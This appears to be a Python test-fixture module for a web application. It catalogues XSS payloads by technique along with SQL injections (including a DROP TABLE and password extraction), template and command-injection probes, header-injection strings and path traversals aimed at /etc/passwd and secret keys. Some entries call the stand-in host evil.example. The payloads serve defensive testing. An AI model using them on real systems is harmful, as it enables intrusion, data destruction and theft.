"""Texts that try to do harm, by technique: each calls `xss(1)`, which no page must ever do, or asks another site.

Written for these tests. `SCRIPTS` is what a browser could run, `INJECTIONS` what a server could. A new one is one line.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence

ELSEWHERE = "evil.example"  # nobody; a request to it is a failure

BY_TECHNIQUE: Mapping[str, Sequence[str]] = {
    "script elements": (
        "<script>xss(1)</script>",
        "<SCRIPT>xss(1)</SCRIPT>",
        "<sCrIpT type=text/javascript >xss(1)</ScRiPt\t>",
        "<script\n>xss(1)</script\n>",
        "<script/x>xss(1)</script>",
        f"<script src=//{ELSEWHERE}/a.js></script>",
        f"<script type=module src='https://{ELSEWHERE}/a.mjs'></script>",
        "<script>/*</script><script>*/xss(1)</script>",
        "<scr<script>ipt>xss(1)</scr</script>ipt>",
        "<<script>xss(1)//<</script>",
        "<script>xss(1)//",
        "<script nomodule>xss(1)</script>",
        "<script type=importmap>{}</script><script>xss(1)</script>",
    ),
    "tags with handlers": (
        "<img src=x onerror=xss(1)>",
        "<img src='' onerror='xss(1)'>",
        '<IMG SRC="x" OnErRoR="xss(1)">',
        "<img/src=x/onerror=xss(1)>",
        "<img\nsrc=x\nonerror=xss(1)>",
        "<img src=x onerror=xss`1`>",
        "<img src=x onerror=&#120;ss(1)>",
        "<img src=x onerror=&#x78;&#x73;&#x73;(1)>",
        "<img src=x onerror='xss&lpar;1&rpar;'>",
        "<img src=x onerror=\\u0078ss(1)>",
        "<img srcset=x onerror=xss(1)>",
        "<body onload=xss(1)>",
        "<input autofocus onfocus=xss(1)>",
        "<details open ontoggle=xss(1)>open</details>",
        "<video><source onerror=xss(1) src=x></video>",
        "<audio src=x onerror=xss(1)>",
        "<p onpointerenter=xss(1) style='position:fixed;inset:0'>move</p>",
        "<div onanimationstart=xss(1) style=animation-name:spin>spin</div>",
        "<p tabindex=0 autofocus onfocus=xss(1)>p</p>",
        "<button popovertarget=p1>b</button><p popover id=p1 onbeforetoggle=xss(1)>p</p>",
        "<a autofocus href=# onfocusin=xss(1)>a</a>",
        "<object data=x onerror=xss(1)></object>",
        "<link rel=stylesheet href=x onerror=xss(1)>",
        "<style onload=xss(1)></style>",
        "<iframe onload=xss(1)></iframe>",
        "<marquee onstart=xss(1)>m</marquee>",
        "<unknown-tag onpointerdown=xss(1) contenteditable>u</unknown-tag>",
        "<img src=x onerror=window['xs'+'s'](1)>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=confirm(1)>",
        "<img src=x onerror=prompt(1)>",
    ),
    "drawings and formulas": (
        "<svg onload=xss(1)>",
        "<svg/onload=xss(1)//",
        "<svg><script>xss(1)</script></svg>",
        "<svg><script href=data:,xss(1) /></svg>",
        "<svg><script>&#120;ss(1)</script></svg>",
        "<svg><animate onbegin=xss(1) attributeName=x dur=1s></svg>",
        "<svg><a><animate attributeName=href values=javascript:xss(1) /><text y=20>t</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=xss(1)></foreignObject></svg>",
        f"<svg><use href=//{ELSEWHERE}/a.svg#x></use></svg>",
        f"<svg><image href=https://{ELSEWHERE}/a.png></image></svg>",
        "<svg><title><img src=x onerror=xss(1)></title></svg>",
        "<svg><style><img src=x onerror=xss(1)></style></svg>",
        "<svg><desc><![CDATA[</desc><img src=x onerror=xss(1)>]]></svg>",
        "<math><mtext><img src=x onerror=xss(1)></mtext></math>",
        "<math href=javascript:xss(1)><mi>x</mi></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=xss(1)></annotation-xml></math>",
    ),
    "addresses": (
        "<a href=javascript:xss(1)>a</a>",
        "<a href=' javascript:xss(1)'>a</a>",
        "<a href='java\tscript:xss(1)'>a</a>",
        "<a href='jAvAsCrIpT:xss(1)'>a</a>",
        "<a href='&#106;avascript&colon;xss(1)'>a</a>",
        "<a href='\x01javascript:xss(1)'>a</a>",
        "<a href='java\0script:xss(1)'>a</a>",
        "<a href='javascript://%0axss(1)'>a</a>",
        "<a href='data:text/html,<script>xss(1)</script>'>a</a>",
        "<a href='vbscript:xss(1)'>a</a>",
        "<iframe src=javascript:xss(1)></iframe>",
        "<iframe srcdoc='<script>parent.xss(1)</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=parent.xss(1)&gt;'></iframe>",
        f"<iframe src=//{ELSEWHERE}/></iframe>",
        "<embed src='data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4='>",
        "<object data=javascript:xss(1)></object>",
        "<form action=javascript:xss(1)><button>b</button></form>",
        f"<form action=https://{ELSEWHERE}/><input name=csrf_token><button>b</button></form>",
        "<button formaction=javascript:xss(1) form=f>b</button>",
        "<isindex type=image src=x onerror=xss(1)>",
        "javascript:xss(1)",
        "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
        f"//{ELSEWHERE}/a",
        f"\\\\{ELSEWHERE}\\a",
        f"https:{ELSEWHERE}",
    ),
    "out of an attribute": (
        '"><script>xss(1)</script>',
        "'><script>xss(1)</script>",
        "`><script>xss(1)</script>",
        "><script>xss(1)</script>",
        '" onfocus=xss(1) autofocus x="',
        "' onfocus=xss(1) autofocus x='",
        "` onfocus=xss(1) autofocus x=`",
        "x onfocus=xss(1) autofocus",
        '"/onfocus="xss(1)"/autofocus="',
        '\\" onfocus=xss(1) autofocus //',
        "&quot; onfocus=xss(1) autofocus &quot;",
        '"\tonfocus\x0c=\x0cxss(1)\tautofocus ',
        '" style="animation-name:spin" onanimationstart="xss(1)',
        '"><svg onload="xss(1)"',
        "%22%3E%3Cimg%20src=x%20onerror=xss(1)%3E",
    ),
    "out of an element or a text": (
        "</textarea><img src=x onerror=xss(1)>",
        "</title><img src=x onerror=xss(1)>",
        "</style><img src=x onerror=xss(1)>",
        "</script><img src=x onerror=xss(1)>",
        "</noscript><img src=x onerror=xss(1)>",
        "</template><img src=x onerror=xss(1)>",
        "</iframe><img src=x onerror=xss(1)>",
        "</select></option><img src=x onerror=xss(1)>",
        "</svg></math></table></form><img src=x onerror=xss(1)>",
        "--><img src=x onerror=xss(1)>",
        "<!--><img src=x onerror=xss(1)>-->",
        "<!-- --!><img src=x onerror=xss(1)>",
        "]]><img src=x onerror=xss(1)>",
        "<![CDATA[<img src=x onerror=xss(1)>]]>",
        "<?php ?><img src=x onerror=xss(1)>",
        "<!DOCTYPE x [<!ENTITY e '<img src=x onerror=xss(1)>'>]>&e;",
        "<plaintext>",
        "<template><img src=x onerror=xss(1)></template>",
        "<template shadowrootmode=open><img src=x onerror=xss(1)></template>",
        '";xss(1);//',
        "';xss(1);//",
        "${xss(1)}",
        "{{constructor.constructor('xss(1)')()}}",
        "\\u003cimg src=x onerror=xss(1)\\u003e",
        "\\x3cscript\\x3exss(1)\\x3c/script\\x3e",
    ),
    "Markdown": (
        "[link](javascript:xss(1))",
        "[link](JaVaScRiPt:xss(1))",
        "[link](<java\tscript:xss(1)>)",
        "[link](&#106;avascript:xss(1))",
        "[link](javascript&colon;xss(1))",
        "[link](\x01javascript:xss(1))",
        "[link](data:text/html,<script>xss(1)</script>)",
        "[link](vbscript:xss(1))",
        f"[link](//{ELSEWHERE}/a)",
        '[link](https://a.example "\\"><img src=x onerror=xss(1)>")',
        "[link](https://a.example/'onfocus='xss(1)'autofocus='x)",
        "[link](lesson:javascript:xss(1))",
        "[link](term:\"><img src=x onerror=xss(1)>)",
        "[![alt](x)](javascript:xss(1))",
        f"![alt](https://{ELSEWHERE}/a.png)",
        f"![alt](//{ELSEWHERE}/a.png)",
        "![alt](javascript:xss(1))",
        '![" onerror=xss(1) x="](x)',
        "![alt](x\"onerror=\"xss(1))",
        "![alt](figures/../../../x.svg)",
        "[ref]\n\n[ref]: javascript:xss(1)",
        f"![ref]\n\n[ref]: https://{ELSEWHERE}/a.png",
        "<javascript:xss(1)>",
        "<xss(1)@evil.example>",
        f"<https://{ELSEWHERE}/\"onfocus=xss(1)>",
        "[link](#x){: onclick=xss(1) autofocus onfocus=xss(1)}",
        "text\n{: onclick=xss(1) style=position:fixed}",
        "```html {onclick=xss(1)}\n<img src=x onerror=xss(1)>\n```",
        "`<img src=x onerror=xss(1)>`",
        "`` ` `` <img src=x onerror=xss(1)> ``",
        "note[^1]\n\n[^1]: <img src=x onerror=xss(1)>",
        "[^x]: [link](javascript:xss(1))\n\nnote[^x]",
        "*[xss]: <img src=x onerror=xss(1)>\n\nxss",
        "| a |\n|---|\n| <img src=x onerror=xss(1)> |",
        "term\n:   <img src=x onerror=xss(1)>",
        "<div markdown=1>\n\n[link](javascript:xss(1))\n\n</div>",
        "> <img src=x onerror=xss(1)>",
        "\x02klzzwxh:0\x03<img src=x onerror=xss(1)>",
        "\x02wzxhzdk:0\x03",
        "[TOC]",
        "![]() <img src=x onerror=xss(1)>",
    ),
    "what parsers read differently": (
        "<noscript><p title='</noscript><img src=x onerror=xss(1)>'>",
        "<svg><p><style><a title='</style><img src=x onerror=xss(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=xss(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss(1)>",
        "<table><a href='</table><img src=x onerror=xss(1)>'>",
        "<listing>&lt;img src=x onerror=xss(1)&gt;</listing>",
        "<xmp><p title='</xmp><img src=x onerror=xss(1)>'></xmp>",
        "<select><style></select><img src=x onerror=xss(1)></style>",
        "<b<b><img src=x onerror=xss(1)>",
        "<p><p><p></p><img src=x onerror=xss(1)",
        "<a<!-- --> href=javascript:xss(1)>a</a>",
        "<img\x0csrc=x\x0bonerror=xss(1)>",
        "<\0script>xss(1)</script>",
        "<img src=x\0 onerror=xss(1)>",
    ),
    "letters that look or fold like others": (
        "\uff1cscript\uff1exss(1)\uff1c/script\uff1e",
        "<\u017fcript>xss(1)</\u017fcript>",
        "<\u212aeygen autofocus onfocus=xss(1)>",
        "\u2039img src=x onerror=xss(1)\u203a",
        "\u202e<img src=x onerror=xss(1)>\u202c",
        "<img\u00a0src=x onerror=xss(1)>",
        "<img src=x on\u00adError=xss(1)>",
        "\ufeff<script>xss(1)</script>",
        "\u2028<script>xss(1)</script>\u2029",
        "+ADw-script+AD4-xss(1)+ADw-/script+AD4-",
        "\xbcscript\xbexss(1)\xbc/script\xbe",
        "&lt;script&gt;xss(1)&lt;/script&gt;",
        "&amp;lt;img src=x onerror=xss(1)&amp;gt;",
        "&#60;img src=x onerror=xss(1)&#62;",
        "&#x3C;script&#x3E;xss(1)&#x3C;/script&#x3E;",
        "%3Cscript%3Exss(1)%3C/script%3E",
        "%253Cscript%253Exss(1)%253C/script%253E",
    ),
    "names that scripts look up": (
        "<form id=main name=main><input name=attributes></form>",
        "<a id=live></a><a id=live name=textContent href=x>a</a>",
        "<img name=getElementById><img name=cookie>",
        "<form name=document><input name=cookie></form>",
        "<p id=__proto__>p</p>",
        "<form id=exam data-attempt=../../x></form>",
    ),
    "the page's own working": (
        "<meta http-equiv=refresh content='0;url=javascript:xss(1)'>",
        f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "<meta charset=utf-7>",
        f"<base href=https://{ELSEWHERE}/>",
        f"<base target=_top href=//{ELSEWHERE}>",
        f"<link rel=stylesheet href=//{ELSEWHERE}/a.css>",
        f"<link rel=prefetch href=https://{ELSEWHERE}/a>",
        f"<link rel=import href=//{ELSEWHERE}/a.html>",
        f"<style>@import 'https://{ELSEWHERE}/a.css';</style>",
        f"<style>body{{background:url(//{ELSEWHERE}/a)}}</style>",
        f"<p style='background:url(//{ELSEWHERE}/a)'>p</p>",
        "<p style='width:expression(xss(1))'>p</p>",
        "<p style=\"behavior:url('x.htc');-moz-binding:url('x#x')\">p</p>",
        f"<img src='https://{ELSEWHERE}/?",
        f"<table background=//{ELSEWHERE}/a><tr><td>t</td></tr></table>",
        f"<video poster=//{ELSEWHERE}/a></video>",
        f"<a href=/ ping=//{ELSEWHERE}/a>a</a>",
    ),
    "several places at once": (
        "'\"`><img src=x onerror=xss(1)>",
        "\"'--></style></script></title></textarea></select><svg/onload=xss(1)>",
        "javascript:/*--></title></style></textarea></script><svg/onload='/*\"/**/xss(1)//'>",
        "[x](javascript:xss(1)) <svg onload=xss(1)> {{7*7}} \"'><!--",
        "</p>](x)|`**Why:** [[(<img src=x onerror=xss(1)>)|x]] \"'>",
        "`\"'><img src=x onerror=xss(1)>`](javascript:xss(1)){: onclick=xss(1)}",
    ),
}  # fmt: skip


def _numbered() -> tuple[str, ...]:
    """Every text once, each calling with a number of its own, so that what was run says which it is."""
    texts = [text for group in BY_TECHNIQUE.values() for text in group]
    return tuple(text.replace("(1)", f"({n})").replace("xss`1`", f"xss`{n}`") for n, text in enumerate(texts))


SCRIPTS = _numbered()


def chunks(size: int) -> list[tuple[str, ...]]:
    """All of them in groups of so many."""
    return [SCRIPTS[start : start + size] for start in range(0, len(SCRIPTS), size)]


def line(text: str) -> str:
    """A text as it goes into one line of a file: no line break, and no NUL, for which a file is refused."""
    return text.replace("\n", " ").replace("\0", "").strip()


def joined(texts: Sequence[str]) -> str:
    """Several texts for a field that holds one line."""
    return " ¦ ".join(line(text) for text in texts)


def packed(most: int) -> list[str]:
    """All of them in as few texts of so many characters as there can be; a longer one alone is cut."""
    packs = [""]
    for text in map(line, SCRIPTS):
        if len(packs[-1]) + len(text) + 1 > most:
            packs.append("")
        packs[-1] = f"{packs[-1]} {text}".strip()[:most]
    return packs


# ---- for the server ----

PRODUCT = str(918273 * 645546)  # what a page holds where somebody's text was worked out
DATABASE = (
    *(
        "' OR 1=1--",
        "'; DROP TABLE learner; --",
        '" OR ""="',
        "') UNION SELECT password FROM account--",
        "%' OR '1'='1",
    ),
    *(
        "1; UPDATE account SET role='admin'",
        "\\'; --",
        "' || (SELECT password FROM account) || '",
        "x' AND randomblob(9)--",
    ),
    *(
        '"',
        "*",
        "^a",
        'title:("',
        "a NOT b",
        "NEAR(a b)",
        '"a" OR b*',
        "a AND",
        "-a",
        "{a b}: c",
        "\\",
        "%",
        "_",
        "?",
        ":a",
    ),
)
TEMPLATES = (
    *(
        "{{918273*645546}}",
        "${918273*645546}",
        "#{918273*645546}",
        "<%= 918273*645546 %>",
        "@(918273*645546)",
        "*{918273*645546}",
        "[[${918273*645546}]]",
    ),
    *(
        "{% raw %}{{918273*645546}}{% endraw %}",
        "{{config}}",
        "{% include 'base.html' %}",
        "{{'%s'|format(918273*645546)}}",
        "{#",
        "{%",
    ),
    *(
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "%(a)s %s %d %n",
        "{0} {a} {0.__class__}",
        "$(id)",
        "`id`",
        "| id",
    ),
)
LINES = (  # each ends a header where a line break gets through, or leads elsewhere
    *("a\r\nSet-Cookie: evil=1", "a\nSet-Cookie: evil=1", "a\rSet-Cookie: evil=1", "a%0d%0aSet-Cookie:%20evil=1"),
    *(
        "\r\n\r\n<h1>evil</h1>",
        "a\u2028Set-Cookie: evil=1",
        "a\x85Set-Cookie: evil=1",
        "\u560d\u560aSet-Cookie: evil=1",
    ),
    *(
        "a\x0bSet-Cookie: evil=1",
        "a\x0cSet-Cookie: evil=1",
        f"//{ELSEWHERE}",
        f"/\\{ELSEWHERE}",
        f"https://{ELSEWHERE}/",
    ),
    *(
        f"/learn\r\nLocation: https://{ELSEWHERE}/",
        f"/\t/{ELSEWHERE}",
        f"@{ELSEWHERE}",
        f".{ELSEWHERE}",
        f":{ELSEWHERE}",
    ),
)
ODD = (
    *(
        "",
        " ",
        "\0",
        "a\0b",
        "\ud800",
        "\udfff\ud800",
        "\ufffe",
        "\u202e",
        "\u0661",
        "\u00b2",
        "e\u0301" * 500,
        "\U0001f3b2",
    ),
    *(
        "9" * 30,
        "9" * 4301,
        "-" + "9" * 20,
        "1e999",
        "NaN",
        "Infinity",
        "-0",
        "0x10",
        "1_000",
        "x" * 50_000,
        "[" * 5000,
    ),
    *("0001-01-01", "9999-12-31", "2027-02-30", "99999-01-01", "None", "null", "true", "undefined", "__proto__"),
)
INJECTIONS = (*DATABASE, *TEMPLATES, *LINES, *ODD)
# As they stand in an address: a client would tidy some of them up.
TRAVERSALS = (
    *("..", "../..", "../../../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/pyproject.toml"),
    *(
        "..%252f..%252fpyproject.toml",
        "%252e%252e%252fpyproject.toml",
        "..%5c..%5cpyproject.toml",
        "..\\..\\pyproject.toml",
    ),
    *(
        "....//....//pyproject.toml",
        "..;/pyproject.toml",
        "%2fetc%2fpasswd",
        "//etc/passwd",
        "/etc/passwd",
        "C:%5cwindows",
    ),
    *(
        "file:///etc/passwd",
        "%00",
        "css/course.css%00.js",
        "css/../../../pyproject.toml",
        "css/%2e%2e/%2e%2e/__init__.py",
    ),
    *(
        "..%c0%af..%c0%afetc/passwd",
        "%ef%bc%8e%ef%bc%8e/etc/passwd",
        ".git/config",
        ".",
        "%2e",
        "css/",
        "css",
        "%u002e%u002e",
    ),
    *(
        "../web/__init__.py",
        "..%2fweb%2f__init__.py",
        "../../instance/secret_key",
        "../../../secret_key",
        "../../../course.db",
    ),
)
